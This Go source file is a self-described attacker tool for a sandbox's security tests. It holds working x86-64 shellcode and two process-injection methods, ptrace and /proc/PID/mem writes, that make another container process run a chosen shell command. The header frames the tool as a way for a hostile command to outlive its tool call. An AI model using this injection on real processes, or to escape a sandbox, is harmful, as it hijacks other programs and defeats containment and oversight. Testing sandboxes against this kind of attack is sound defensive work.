// Command takeover is an attacker's tool for the sandbox's security tests:
// run by a command inside a sandbox, it tries to make another process of
// the same container run a shell command of its choosing, the way a hostile
// command would take over the toolbox's long-lived processes to outlive its
// tool call. linux/amd64 only.
//
//	takeover ptrace PID 'CMD'   attach with ptrace, execve /bin/sh -c CMD in PID
//	takeover mem PID 'CMD'      write code through /proc/PID/mem (no ptrace
//	                            needed), then wake PID so that it runs it
//	takeover find WORD          print the pid of the first process whose
//	                            first argument (after the program) is WORD
//
// It prints "TAKEOVER-OK" when the target accepted the code, or
// "TAKEOVER-FAILED: reason" and exits 1.
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) < 3 {
		fail("usage: takeover ptrace|mem PID CMD | takeover find WORD")
	}
	if os.Args[1] == "find" {
		fmt.Println(find(os.Args[2]))
		return
	}
	if len(os.Args) != 4 {
		fail("usage: takeover ptrace|mem PID CMD")
	}
	pid, err := strconv.Atoi(os.Args[2])
	if err != nil {
		fail("bad pid")
	}
	code := shellcode(os.Args[3])
	switch os.Args[1] {
	case "ptrace":
		err = viaPtrace(pid, code)
	case "mem":
		err = viaMem(pid, code)
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fail(err.Error())
	}
	fmt.Println("TAKEOVER-OK")
}

func fail(msg string) {
	fmt.Println("TAKEOVER-FAILED: " + msg)
	os.Exit(1)
}

// find returns the pid of the first process (other than this one) whose
// first argument is word.
func find(word string) int {
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		pid, _ := strconv.Atoi(filepath.Base(d))
		if pid == os.Getpid() {
			continue
		}
		b, err := os.ReadFile(d + "/cmdline")
		if err != nil {
			continue
		}
		if args := bytes.Split(b, []byte{0}); len(args) > 1 && string(args[1]) == word {
			return pid
		}
	}
	return 0
}

// shellcode is position-independent x86-64 code that runs
// execve("/bin/sh", ["/bin/sh", "-c", cmd], NULL), and exit(127) if that
// fails.
func shellcode(cmd string) []byte {
	code := []byte{
		0x48, 0x8d, 0x3d, 0, 0, 0, 0, // lea rdi, [rip+sh]
		0x48, 0x8d, 0x05, 0, 0, 0, 0, // lea rax, [rip+dashc]
		0x48, 0x8d, 0x1d, 0, 0, 0, 0, // lea rbx, [rip+cmd]
		0x6a, 0x00, // push 0
		0x53,             // push rbx
		0x50,             // push rax
		0x57,             // push rdi
		0x48, 0x89, 0xe6, // mov rsi, rsp
		0x31, 0xd2, // xor edx, edx
		0xb8, 59, 0, 0, 0, // mov eax, SYS_execve
		0x0f, 0x05, // syscall
		0xbf, 127, 0, 0, 0, // mov edi, 127
		0xb8, 60, 0, 0, 0, // mov eax, SYS_exit
		0x0f, 0x05, // syscall
	}
	data := []string{"/bin/sh\x00", "-c\x00", cmd + "\x00"}
	off := len(code)
	for i, s := range data {
		// The displacement is relative to the end of the lea (7 bytes).
		at := 7 * i
		binary.LittleEndian.PutUint32(code[at+3:], uint32(off-(at+7)))
		off += len(s)
	}
	for _, s := range data {
		code = append(code, s...)
	}
	return code
}

// viaPtrace stops the target's main thread, writes the code at its
// instruction pointer and lets it run there.
func viaPtrace(pid int, code []byte) error {
	runtime.LockOSThread()
	if err := syscall.PtraceAttach(pid); err != nil {
		return fmt.Errorf("ptrace attach %d: %w", pid, err)
	}
	var ws syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &ws, syscall.WALL, nil); err != nil {
		return fmt.Errorf("wait: %w", err)
	}
	var regs syscall.PtraceRegs
	if err := syscall.PtraceGetRegs(pid, &regs); err != nil {
		return fmt.Errorf("getregs: %w", err)
	}
	for len(code)%8 != 0 {
		code = append(code, 0x90)
	}
	if _, err := syscall.PtracePokeText(pid, uintptr(regs.Rip), code); err != nil {
		return fmt.Errorf("poketext: %w", err)
	}
	// No system call restart: the thread was stopped inside one.
	regs.Orig_rax = ^uint64(0)
	if err := syscall.PtraceSetRegs(pid, &regs); err != nil {
		return fmt.Errorf("setregs: %w", err)
	}
	if err := syscall.PtraceDetach(pid); err != nil {
		return fmt.Errorf("detach: %w", err)
	}
	return nil
}

// viaMem writes the code where each of the target's threads returns from
// the system call it is blocked in, through /proc/PID/mem (which writes
// even read-only text), then signals the target so that a thread returns
// from one.
func viaMem(pid int, code []byte) error {
	mem, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
	if err != nil {
		return fmt.Errorf("opening /proc/%d/mem: %w", pid, err)
	}
	defer mem.Close()
	written := map[uint64]bool{}
	for range 100 {
		tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/syscall", pid))
		for _, task := range tasks {
			b, err := os.ReadFile(task)
			if err != nil && len(written) > 0 {
				return nil // the target ran the code: its threads are gone
			}
			if err != nil {
				return fmt.Errorf("reading %s: %w", task, err)
			}
			f := strings.Fields(string(b))
			if len(f) < 3 || f[0] == "running" || f[0] == "-1" {
				continue
			}
			pc, err := strconv.ParseUint(strings.TrimPrefix(f[len(f)-1], "0x"), 16, 64)
			if err != nil || written[pc] {
				continue
			}
			// A signal handled with SA_RESTART (as Go's are) restarts the
			// interrupted call: the thread goes back to the syscall
			// instruction at pc-2. A jump there to pc catches that path
			// as well as a plain return.
			patch := append([]byte{0xeb, 0x00}, code...) // jmp +0
			if _, err := mem.WriteAt(patch, int64(pc-2)); err != nil {
				if len(written) > 0 {
					return nil // the target ran the code: its old memory is gone
				}
				return fmt.Errorf("writing /proc/%d/mem: %w", pid, err)
			}
			written[pc] = true
		}
		if len(written) > 0 {
			// Any signal the target handles interrupts a blocked thread.
			_ = syscall.Kill(pid, syscall.SIGURG)
		}
		time.Sleep(20 * time.Millisecond)
	}
	if len(written) == 0 {
		return fmt.Errorf("no thread of %d was ever blocked in a system call", pid)
	}
	return nil
}
